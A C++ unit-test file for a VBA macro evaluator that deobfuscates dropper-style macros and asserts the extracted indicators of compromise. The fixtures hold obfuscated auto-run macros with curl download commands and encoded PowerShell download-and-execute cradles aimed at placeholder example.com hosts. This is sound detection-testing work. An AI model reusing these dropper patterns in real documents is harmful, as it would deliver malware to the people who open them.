// analysis::evaluate_vba on hand-written macros in the style of real droppers (our own text, never a sample's):
// Chr() arithmetic, StrReverse, Replace markers, Split URL lists, Array indexing, helper Functions, form-hidden
// strings, document variables and encoded PowerShell built at test time. Each test asserts the exact IOCs.
#include <gtest/gtest.h>

#include <algorithm>

#include "analysis/iocs.hpp"
#include "support/iocs_helpers.hpp"

namespace {

namespace analysis = mamori::analysis;
using mamori::test::base64;
using mamori::test::compress;
using mamori::test::dump;
using mamori::test::encode_command;
using mamori::test::find_ioc;
using mamori::test::values_of;
using Set = std::set<std::string>;

// Joins lines with CRLF, as the VBA editor stores them.
std::string vb(std::initializer_list<const char*> lines) {
  std::string s;
  for (const char* l : lines) {
    s += l;
    s += "\r\n";
  }
  return s;
}

TEST(VbaEvalMacro, ChrArithmeticStrReverseAndReplaceMarkers) {
  const std::string src = vb({
      "Attribute VB_Name = \"Module1\"",                                              // 1
      "Const MARK = \"]x[\"",                                                         // 2
      "Function Dec(s)",                                                              // 3
      "  Dec = Replace(s, MARK, \"\")",                                               // 4
      "End Function",                                                                 // 5
      "Sub AutoOpen()",                                                               // 6
      "  Dim u As String",                                                            // 7
      "  u = Chr(104) & Chr(&H74) & ChrW(116 + 0) & Chr$(224 \\ 2) & Chr(58) & \"//\"",  // 8
      "  u = u & StrReverse(\"moc.elpmaxe.eno\") & \"/\" & _",                          // 9
      "      Dec(\"p]x[a]x[y\") & Chr(46 Mod 50) & LCase(\"EXE\")",                     // 10
      "  Set o = CreateObject(Dec(\"MSX]x[ML2.XML]x[HTTP\"))",                         // 11
      "  o.Open \"GET\", u, False ' comment with http://comment.example.com/ ignored",  // 12
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Module1");
  ASSERT_EQ(ev.iocs.size(), 1u) << dump(ev.iocs);
  EXPECT_EQ(ev.iocs[0].type, "url");
  EXPECT_EQ(ev.iocs[0].value, "http://one.example.com/pay.exe");
  EXPECT_EQ(ev.iocs[0].where, "vba:Module1:9");
  EXPECT_EQ(ev.limits_hit, 0u);
  // The deobfuscated strings are offered to an analyst.
  bool saw_progid = false;
  for (const auto& s : ev.strings) saw_progid |= s.value == "MSXML2.XMLHTTP";
  EXPECT_TRUE(saw_progid);
}

TEST(VbaEvalMacro, SplitListsArraysAndStringFunctions) {
  const std::string src = vb({
      "Attribute VB_Name = \"NewMacros\"",
      "Public Sub Document_Open()",
      "  Dim parts, urls, i, r",
      "  parts = Split(\"HTTP://TWO.EXAMPLE.NET/A|x|zzftp://files.example.org/b\", \"|\")",
      "  urls = Array(LCase(parts(0)), Mid(\"zzhttps://three.example.com/c\", 3), _",
      "               Left(\"http://four.example.com/dXXX\", 25), Right(parts(2), Len(parts(2)) - 2))",
      "  r = Join(urls, \" \") : x = UBound(urls)",
      "  For i = 0 To UBound(urls)",
      "    Shell \"cmd /c curl -o %TEMP%\\a\" & i & \".exe \" & urls(i), 0",
      "  Next",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "NewMacros");
  EXPECT_EQ(values_of(ev.iocs, "url"),
            (Set{"http://two.example.net/a", "https://three.example.com/c", "http://four.example.com/d",
                 "ftp://files.example.org/b",
                 // The literals as written are strings of the macro too.
                 "HTTP://TWO.EXAMPLE.NET/A", "http://four.example.com/dXXX"}))
      << dump(ev.iocs);
  // The loop ran for each element: one command per URL.
  EXPECT_NE(find_ioc(ev.iocs, "command", "cmd /c curl -o %TEMP%\\a0.exe http://two.example.net/a"), nullptr) << dump(ev.iocs);
  EXPECT_NE(find_ioc(ev.iocs, "command", "cmd /c curl -o %TEMP%\\a3.exe ftp://files.example.org/b"), nullptr) << dump(ev.iocs);
  EXPECT_TRUE(values_of(ev.iocs, "domain").empty()) << dump(ev.iocs);
}

TEST(VbaEvalMacro, FormHiddenEncodedPowerShell) {
  // The Emotet shape: the command hides in a form control behind a junk marker the macro removes, and the
  // PowerShell inside splits a URL list and downloads each.
  const std::string script =
      "$W='Q';$L=new-object Net.WebClient;$U=('http://five.example.com/w/'+'@https://six.example.org/x/').Split('@');"
      "foreach($e in $U){try{$L.DownloadFile($e,$env:temp+'\\\\'+'5.exe');break;}catch{}}";
  std::string hidden;
  const std::string cmd = "powershell -w hidden -enc " + encode_command(script);
  for (std::size_t i = 0; i < cmd.size(); i += 3) hidden += cmd.substr(i, 3) + "[zz]";
  analysis::DocumentStrings extra;
  extra.forms.push_back({"UserForm1", "Label1", "Caption", hidden});
  extra.forms.push_back({"UserForm1", "Label2", "Tag", "winmgmts:Win32_Process"});
  const std::string src = vb({
      "Attribute VB_Name = \"Module1\"",
      "Function Cmd()",
      "  With UserForm1",
      "    Cmd = Replace(.Label1.Caption, \"[zz]\", \"\")",
      "  End With",
      "End Function",
      "Sub AutoOpen()",
      "  GetObject(UserForm1.Label2.Tag).Create Cmd, Null, Null, pid",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Module1", extra);
  EXPECT_EQ(values_of(ev.iocs, "url"), (Set{"http://five.example.com/w/", "https://six.example.org/x/"})) << dump(ev.iocs);
  const auto* u = find_ioc(ev.iocs, "url", "http://five.example.com/w/");
  ASSERT_NE(u, nullptr);
  EXPECT_EQ(u->where, "vba:Module1:4 (decoded powershell)");
  EXPECT_NE(find_ioc(ev.iocs, "command", cmd), nullptr) << dump(ev.iocs);
}

TEST(VbaEvalMacro, DocumentVariablesAndPropertiesAndDeflatedPayload) {
  const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://seven.example.com/s.ps1')";
  const std::string ps = "iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
                         "[Convert]::FromBase64String('" + base64(compress(inner, -15)) +
                         "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";
  analysis::DocumentStrings extra;
  extra.forms.push_back({"", "pay", "Variable", "-enc " + encode_command(ps)});
  extra.forms.push_back({"", "Comments", "Property", "p^o^w^e^r^s^h^e^l^l"});
  const std::string src = vb({
      "Attribute VB_Name = \"ThisDocument\"",
      "Private Sub Document_Open()",
      "  Dim a As String, b As String",
      "  a = ActiveDocument.BuiltInDocumentProperties(\"Comments\").Value",
      "  b = ActiveDocument.Variables(\"pay\").Value",
      "  CreateObject(\"WScript.Shell\").Run Replace(a, \"^\", \"\") & \" -w 1 \" & b, 0",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "ThisDocument", extra);
  EXPECT_EQ(values_of(ev.iocs, "url"), Set{"http://seven.example.com/s.ps1"}) << dump(ev.iocs);
  const auto* u = find_ioc(ev.iocs, "url", "http://seven.example.com/s.ps1");
  ASSERT_NE(u, nullptr);
  EXPECT_EQ(u->where, "vba:ThisDocument:6 (decoded powershell)");
}

TEST(VbaEvalMacro, IfBranchesLoopsAndArraysBuiltPieceByPiece) {
  const std::string src = vb({
      "Attribute VB_Name = \"Module2\"",
      "Private k(3) As String",
      "Function Pick(n As Integer, Optional suffix As String = \"/f.php\") As String",
      "  Dim s",
      "  If n = 1 Then",
      "    s = \"http://eight.\"",
      "  ElseIf n = 2 Then",
      "    s = \"http://wrong.\"",
      "  Else",
      "    s = \"http://nine.\"",
      "  End If",
      "  Pick = s & \"example.com\" & suffix",
      "End Function",
      "Sub Go()",
      "  Dim codes, t, i",
      "  codes = Array(104, 116, 116, 112, 58, 47, 47)",
      "  For i = LBound(codes) To UBound(codes)",
      "    t = t & Chr(codes(i) - 0)",
      "  Next i",
      "  k(0) = t & \"ten.example.org\" : k(1) = \"/z\"",
      "  u = k(0) & k(1)",
      "  If Len(u) > 1000 Then u = u & \"/dead\" Else v = Pick(1)",
      "  w = Pick(3, \"/g\")",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Module2");
  EXPECT_EQ(values_of(ev.iocs, "url"),
            (Set{"http://ten.example.org/z", "http://eight.example.com/f.php", "http://nine.example.com/g"}))
      << dump(ev.iocs);
}

TEST(VbaEvalMacro, BenignCodeHasNoUrlsOrDomains) {
  const std::string src = vb({
      "Attribute VB_Name = \"Report\"",
      "Option Explicit",
      "Sub SaveAll()",
      "  ActiveDocument.Save",
      "  Application.Run \"Macro1\"",
      "  Documents.Open FileName:=\"report.docx\", ReadOnly:=True",
      "  MsgBox \"Saved \" & ActiveDocument.Name & \" at \" & Now, vbInformation",
      "  Dim x As String: x = \"Document.Open\"",
      "  Dim y As String: y = \"file.exe\" & \" \" & \"Application.Run\"",
      "  Selection.TypeText Text:=\"Version 1.2.3 of Form1.Caption\"",
      "  Worksheets(\"Sheet1\").Range(\"A1\").Value = \"Total.Sum\"",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Report");
  EXPECT_TRUE(values_of(ev.iocs, "url").empty()) << dump(ev.iocs);
  EXPECT_TRUE(values_of(ev.iocs, "domain").empty()) << dump(ev.iocs);
  EXPECT_TRUE(values_of(ev.iocs, "ip").empty()) << dump(ev.iocs);
  // The raw text through the recogniser, as an LNK or script would be scanned, is as quiet.
  const auto raw = analysis::iocs_from_text(src, "t");
  EXPECT_TRUE(values_of(raw, "url").empty() && values_of(raw, "domain").empty()) << dump(raw);
}

TEST(VbaEvalMacro, HostileMacrosStayBounded) {
  // Unbounded recursion.
  {
    const auto ev = analysis::evaluate_vba(vb({"Function F(x)", "  F = F(x & \"a\") & \"http://r.example.com/\"",
                                               "End Function", "Sub S()", "  y = F(\"q\")", "End Sub"}),
                                           "M");
    EXPECT_GT(ev.limits_hit, 0u);
  }
  // Deep parentheses.
  {
    const std::string deep = "x = " + std::string(20000, '(') + "1" + std::string(20000, ')');
    const auto ev = analysis::evaluate_vba(vb({"Sub S()", deep.c_str(), "End Sub"}), "M");
    EXPECT_GT(ev.limits_hit, 0u);
  }
  // A string that doubles itself, and a huge counted loop.
  {
    const auto ev = analysis::evaluate_vba(vb({"Sub S()", "  s = \"http://d.example.com/\"", "  For i = 1 To 100000000",
                                               "    s = s & s", "  Next", "End Sub"}),
                                           "M");
    EXPECT_GT(ev.limits_hit, 0u);
    EXPECT_LE(ev.work, analysis::limits::max_work + analysis::limits::max_string);
  }
  // Two procedures calling each other.
  {
    const auto ev = analysis::evaluate_vba(vb({"Function A(n)", "  A = B(n + 1)", "End Function", "Function B(n)",
                                               "  B = A(n * 2) & Chr(65)", "End Function"}),
                                           "M");
    EXPECT_GT(ev.limits_hit, 0u);
  }
  // Garbage: unbalanced blocks, stray tokens, unterminated strings.
  const auto ev = analysis::evaluate_vba("End If\r\nNext\r\nFor\r\nIf Then Else\r\nx = \"abc\r\n(((\r\n)))= =\r\n"
                                         "Sub\r\nFunction (\r\nx(1,2,3)(4) = .a.b.c(\r\nWith\r\n.x = 1\r\n",
                                         "M");
  EXPECT_TRUE(ev.iocs.empty());
}

}  // namespace

namespace {

// fuzz_vba_eval finding (session 4): a declaration whose bounds are not closed ("Const M(", "Dim x(3") or that ends
// on "String *" made the declaration reader step past the statement's last token. The statements after it must
// still be evaluated. (Under ASan the old code reported a heap-buffer-overflow here.)
TEST(VbaEvalMacro, UnclosedDeclarationsStayInsideTheStatement) {
  const std::string src = vb({
      "Attribute VB_Name = \"Module1\"",
      "Const M(",
      "Sub AutoOpen()",
      "  Dim x(3",
      "  Dim s As String *",
      "  Dim y(1 To",
      "  u = \"http://\" & \"dl.example.invalid/\" & StrReverse(\"exe.a\")",
      "  CreateObject(\"MSXML2.XMLHTTP\").Open \"GET\", u, False",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Module1");
  EXPECT_NE(find_ioc(ev.iocs, "url", "http://dl.example.invalid/a.exe"), nullptr) << dump(ev.iocs);
}

}  // namespace

namespace {

// The value the evaluator computed for `name = "<tag>=" & ...`, from the deobfuscated strings it reports.
std::string computed(const analysis::Evaluation& ev, const std::string& tag) {
  for (const auto& s : ev.strings)
    if (s.value.rfind(tag + "=", 0) == 0) return s.value.substr(tag.size() + 1);
  return "(none)";
}

// Operator precedence and associativity as VBA has them: ^, unary -, * /, \, Mod, + -, &, comparisons, Not, And, Or,
// Xor, Eqv/Imp. Each line gives a different value when two levels are swapped or a level associates the wrong way.
TEST(VbaEvalMacro, OperatorPrecedenceAndAssociativity) {
  const std::string src = vb({
      "Sub T()",
      "  r01 = \"prec01=\" & 1 + 2 * 3",          // * before +
      "  r02 = \"prec02=\" & 10 - 3 - 2",         // - to the left
      "  r03 = \"prec03=\" & 8 / 2 / 2",          // / to the left
      "  r04 = \"prec04=\" & 7 Mod 3 * 2",        // * before Mod
      "  r05 = \"prec05=\" & 7 \\ 2 * 2",         // * before integer division
      "  r06 = \"prec06=\" & 17 Mod 7 \\ 2",      // \ before Mod
      "  r07 = \"prec07=\" & -2 ^ 2",             // ^ before unary -
      "  r08 = \"prec08=\" & 2 ^ -1",             // a sign in the exponent
      "  r09 = \"prec09=\" & -2 * -3",
      "  r10 = \"prec10=\" & 2 * 3 ^ 2",          // ^ before *
      "  x = Not 1 = 2",                          // comparison before Not
      "  r11 = \"prec11=\" & x",
      "  y = 1 Or 2 And 0",                       // And before Or
      "  r12 = \"prec12=\" & y",
      "  z = 1 Or 1 Xor 1",                       // Or before Xor
      "  r13 = \"prec13=\" & z",
      "  w = 1 < 2 = -1",                         // comparisons to the left
      "  r14 = \"prec14=\" & w",
      "  v = 3 > 2 > 1",
      "  r15 = \"prec15=\" & v",
      "  r16 = \"prec16=\" & \"a\" & 1 + 2 & \"b\"",  // + before &
      "  q = 1 + 1 = 2 And 3 > 2",                // arithmetic, then comparison, then And
      "  r17 = \"prec17=\" & q",
      "  r18 = \"prec18=\" & (1 + 2) * 3",
      "  n = Not 0 And 0",                        // Not before And
      "  r19 = \"prec19=\" & n",
      "  m = 0 Imp 1 Xor 1",                      // Xor before Imp
      "  r20 = \"prec20=\" & m",
      "  r21 = \"prec21=\" & 4 - -1",
      "  k = \"ab\" & \"c\" = \"abc\"",           // & before =
      "  r22 = \"prec22=\" & k",
      "  r23 = \"prec23=\" & 2 + 3 Mod 2",        // Mod before +
      "  r24 = \"prec24=\" & 2 ^ 3 ^ 2",          // ^ to the left: (2 ^ 3) ^ 2, not 2 ^ 9
      "  r25 = \"prec25=\" & 2 ^ -1 ^ 2",         // a signed exponent still leaves the next ^ to the left
      "  r26 = \"prec26=\" & -2 ^ 2 ^ 3",         // the sign applies to (2 ^ 2) ^ 3
      "  r27 = \"prec27=\" & 4 ^ 0.5 * 3 ^ 2",    // ^ before *, on both sides
      "  r28 = \"prec28=\" & 2 ^ (3 ^ 2)",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "M");
  EXPECT_EQ(ev.limits_hit, 0u);
  const std::vector<std::pair<std::string, std::string>> want = {
      {"prec01", "7"},  {"prec02", "5"},   {"prec03", "2"},  {"prec04", "1"},   {"prec05", "1"},  {"prec06", "2"},
      {"prec07", "-4"}, {"prec08", "0.5"}, {"prec09", "6"},  {"prec10", "18"},  {"prec11", "-1"}, {"prec12", "1"},
      {"prec13", "0"},  {"prec14", "-1"},  {"prec15", "0"},  {"prec16", "a3b"}, {"prec17", "-1"}, {"prec18", "9"},
      {"prec19", "0"},  {"prec20", "-1"},  {"prec21", "5"},  {"prec22", "-1"},  {"prec23", "3"},
      {"prec24", "64"}, {"prec25", "0.25"}, {"prec26", "-64"}, {"prec27", "18"}, {"prec28", "512"},
  };
  for (const auto& [tag, value] : want) EXPECT_EQ(computed(ev, tag), value) << tag;
}

// The tokenizer: doubled quotes inside a literal, a literal left open at the end of the line, the two-character
// operators (<> <= >= =< => :=), type suffixes, and statements split at ':' and joined at " _".
TEST(VbaEvalMacro, TokensOfOneStatement) {
  const std::string src = vb({
      "Function G(Optional n = 1)",
      "  G = n * 10",
      "End Function",
      "Sub T()",
      "  r1 = \"lex1=\" & \"a\"\"b\" & \"\"\"\"",
      "  r2 = \"lex2=\" & (3 <> 2) & (2 <= 2) & (3 >= 4) & (2 =< 3) & (3 => 4)",
      "  r3 = \"lex3=\" & G(n:=4) & Chr$(65) & &H41& & 1.5E+1",
      "  a = \"lex4=\" : b = a & \"x\" & _",
      "      \"y\" : r4 = b",
      "  r5 = \"lex5=\" & \"open",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "M");
  EXPECT_EQ(computed(ev, "lex1"), "a\"b\"");
  EXPECT_EQ(computed(ev, "lex2"), "-1-10-10");
  EXPECT_EQ(computed(ev, "lex3"), "40A6515");
  EXPECT_EQ(computed(ev, "lex4"), "xy");
  EXPECT_EQ(computed(ev, "lex5"), "open");
}

// Every nesting (parentheses, a call's arguments) enters all fourteen precedence levels again, and each level entered
// counts against limits::max_vba_expr_levels (1,024): inside an assignment's `&` the innermost primary of n nested
// parentheses sits 14 + 14 n levels deep, so 72 fit and 73 do not. The evaluator must keep this accounting when its
// parser changes, or documents near the cap evaluate differently.
TEST(VbaEvalMacro, ExpressionDepthCapCountsPrecedenceLevels) {
  auto nested = [](int n) {
    const auto k = static_cast<std::size_t>(n);
    const std::string e = std::string(k, '(') + "1" + std::string(k, ')');
    return analysis::evaluate_vba(vb({"Sub T()", ("  r = \"depth=\" & " + e).c_str(), "End Sub"}), "M");
  };
  static_assert(14 + 14 * 72 <= analysis::limits::max_vba_expr_levels &&
                14 + 14 * 73 > analysis::limits::max_vba_expr_levels);
  for (int n : {7, 64, 72}) {
    const auto fits = nested(n);
    EXPECT_EQ(fits.limits_hit, 0u) << n;
    EXPECT_EQ(computed(fits, "depth"), "1") << n;
  }
  const auto cut = nested(73);
  EXPECT_EQ(cut.limits_hit, 1u);
  EXPECT_EQ(computed(cut, "depth"), "");  // the cut operand is unknown, left out of the string
  // Work: three pairs of parentheses add six characters to read, six tokens to run and 3 x 14 levels entered, each
  // charged as one unit plus the charge's own.
  EXPECT_EQ(nested(3).work - nested(0).work, 6u + 6u + 2u * 14u * 3u);
}

// Hostile depth is cut, not followed: 10,000 nested parentheses, call arguments, signs and Nots each return with
// the cap counted once, and the statement after them still runs.
TEST(VbaEvalMacro, HostileNestingIsCutAndTheMacroGoesOn) {
  const std::size_t n = 10000;
  const std::vector<std::string> deep = {
      std::string(n, '(') + "1" + std::string(n, ')'),
      [&] {
        std::string s;
        for (std::size_t i = 0; i < n; ++i) s += "Len(";
        return s + "\"x\"" + std::string(n, ')');
      }(),
      [&] {
        std::string s;
        for (std::size_t i = 0; i < n; ++i) s += "- ";
        return s + "1";
      }(),
      [&] {
        std::string s = "(";  // Not is read where level 4 is entered, not in the operand of &
        for (std::size_t i = 0; i < n; ++i) s += "Not ";
        return s + "0)";
      }(),
  };
  for (const auto& e : deep) {
    const auto ev = analysis::evaluate_vba(
        vb({"Sub T()", ("  r = \"nested=\" & " + e).c_str(), "  s = \"after=\" & Chr(111) & \"k\"", "End Sub"}), "M");
    EXPECT_EQ(ev.limits_hit, 1u) << e.substr(0, 12);
    EXPECT_EQ(computed(ev, "nested"), "") << e.substr(0, 12);
    EXPECT_EQ(computed(ev, "after"), "ok") << e.substr(0, 12);
  }
}

// A called Function's body counts its depth from zero again, so the stack holds max_call_depth chained Functions
// each nested close to the cap: twelve of them, 70 parentheses each, compute their value.
TEST(VbaEvalMacro, DeepNestingAcrossChainedFunctions) {
  std::string src;
  const std::string open(70, '('), close(70, ')');
  for (int k = 1; k <= 11; ++k)
    src += "Function F" + std::to_string(k) + "()\r\n  F" + std::to_string(k) + " = " + open + "F" +
           std::to_string(k + 1) + "() & \"" + std::to_string(k % 10) + "\"" + close + "\r\nEnd Function\r\n";
  src += "Function F12()\r\n  F12 = " + open + "\"chain=\"" + close + "\r\nEnd Function\r\n";
  src += "Sub T()\r\n  r = F1()\r\nEnd Sub\r\n";
  const auto ev = analysis::evaluate_vba(src, "M");
  EXPECT_EQ(ev.limits_hit, 0u);
  // F11 appends 1, F10 0, F9 9 ... F1 1 to F12's "chain=".
  EXPECT_TRUE(std::any_of(ev.strings.begin(), ev.strings.end(),
                          [](const auto& s) { return s.value == "chain=10987654321"; }));
}

}  // namespace

// Which variable a name reads and writes (the evaluator resolves each name once to a slot): a module-level
// variable set by one procedure and read by another, an undeclared name that acts as a global, a local Const and a
// parameter that hide the global of the same name, a Function's name as its return value, and a Dim without a
// value of a name that is already global, which keeps writing the global.
TEST(VbaEvalMacro, VariableScopes) {
  const std::string src = vb({
      "Attribute VB_Name = \"Module1\"",
      "Dim g, h",
      "Function Host(x)",
      "  Host = x & \".example.com\"",
      "End Function",
      "Sub SetUp()",
      "  g = \"http://\"",
      "  u = \"seven\"",
      "End Sub",
      "Sub Shadow()",
      "  Const g = \"ftp://\"",
      "  g = \"ftp://\"",
      "End Sub",
      "Sub Use(g)",
      "  g = \"https://\"",
      "End Sub",
      "Sub Reuse()",
      "  Dim h",
      "  h = \"/p\"",
      "End Sub",
      "Sub AutoOpen()",
      "  Use \"q\"",
      "  r = g & Host(u) & h",
      "  CreateObject(\"MSXML2.XMLHTTP\").Open \"GET\", r",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Module1");
  EXPECT_EQ(values_of(ev.iocs, "url"), (Set{"http://seven.example.com/p"})) << dump(ev.iocs);
  EXPECT_EQ(ev.limits_hit, 0u);
}

// Arrays the evaluator may update in place (vba_eval.cpp, sized_array and the For Each loop): a ReDim Preserve in a
// loop grows the array element by element; a procedure's ReDim Preserve of a module-level array makes a local copy
// and leaves the module's array as it was; a For Each walks the elements the array had when the loop started.
TEST(VbaEvalMacro, ArraysGrownAndWalkedKeepTheirElements) {
  const std::string src = vb({
      "Attribute VB_Name = \"Module1\"",
      "Dim parts(2)",
      "Sub Fill()",
      "  parts(0) = \"http://\": parts(1) = \"grow.example\": parts(2) = \".com/a\"",
      "End Sub",
      "Sub Grow()",
      "  ReDim Preserve parts(3)",
      "  parts(3) = \"/local.exe\"",
      "  u = parts(0) & parts(1) & parts(2) & parts(3)",
      "End Sub",
      "Sub Later()",
      "  v = parts(0) & \"later.example.com/n\" & UBound(parts)",
      "End Sub",
      "Sub Letters()",
      "  Dim acc()",
      "  For i = 0 To 9",
      "    ReDim Preserve acc(i)",
      "    acc(i) = Chr(97 + i)",
      "  Next",
      "  w = \"http://\" & Join(acc, \"\") & \".example.org/\" & UBound(acc)",
      "End Sub",
      "Sub Walk()",
      "  Dim xs(2)",
      "  xs(0) = \"http://\": xs(1) = \"walk.example\": xs(2) = \".net/p\"",
      "  For Each x In xs",
      "    xs(2) = \".bad/q\"",
      "    ReDim Preserve xs(1)",
      "    s = s & x",
      "  Next",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Module1");
  EXPECT_EQ(values_of(ev.iocs, "url"), (Set{"http://grow.example.com/a/local.exe", "http://later.example.com/n2",
                                            "http://abcdefghij.example.org/9", "http://walk.example.net/p"}))
      << dump(ev.iocs);
  EXPECT_EQ(ev.limits_hit, 0u);
}

// Calls reuse their frames' storage (and argument lists) and move the arguments into the parameters: a local of one
// call must not be seen by the next (Dim keeps a value it finds, so a stale one would show), and a callee writing
// into an array parameter must not change the caller's array.
TEST(VbaEvalMacro, CallsStartWithFreshLocalsAndLeaveTheCallersArraysAlone) {
  const std::string src = vb({
      "Attribute VB_Name = \"Module1\"",
      "Function Part(n)",
      "  Dim secret",
      "  If n = 1 Then",
      "    secret = \"leak\"",
      "  End If",
      "  Part = \"p\" & secret & n",
      "End Function",
      "Sub Main()",
      "  a = Part(1)",
      "  u = \"http://calls.example.com/\" & Part(2)",
      "End Sub",
      "Sub Change(arr)",
      "  arr(0) = \"http://changed.example.com/x\"",
      "  c = arr(0) & \"/y\"",
      "End Sub",
      "Sub Main2()",
      "  Dim xs(1)",
      "  xs(0) = \"http://kept.example.com/k\"",
      "  Change xs",
      "  d = xs(0) & \"/z\"",
      "End Sub",
  });
  const auto ev = analysis::evaluate_vba(src, "Module1");
  const Set urls = values_of(ev.iocs, "url");
  EXPECT_TRUE(urls.count("http://calls.example.com/p2")) << dump(ev.iocs);
  EXPECT_FALSE(urls.count("http://calls.example.com/pleak2")) << dump(ev.iocs);
  EXPECT_TRUE(urls.count("http://changed.example.com/x/y")) << dump(ev.iocs);
  EXPECT_TRUE(urls.count("http://kept.example.com/k/z")) << dump(ev.iocs);
  EXPECT_FALSE(urls.count("http://changed.example.com/x/z")) << dump(ev.iocs);
  EXPECT_EQ(ev.limits_hit, 0u);
}
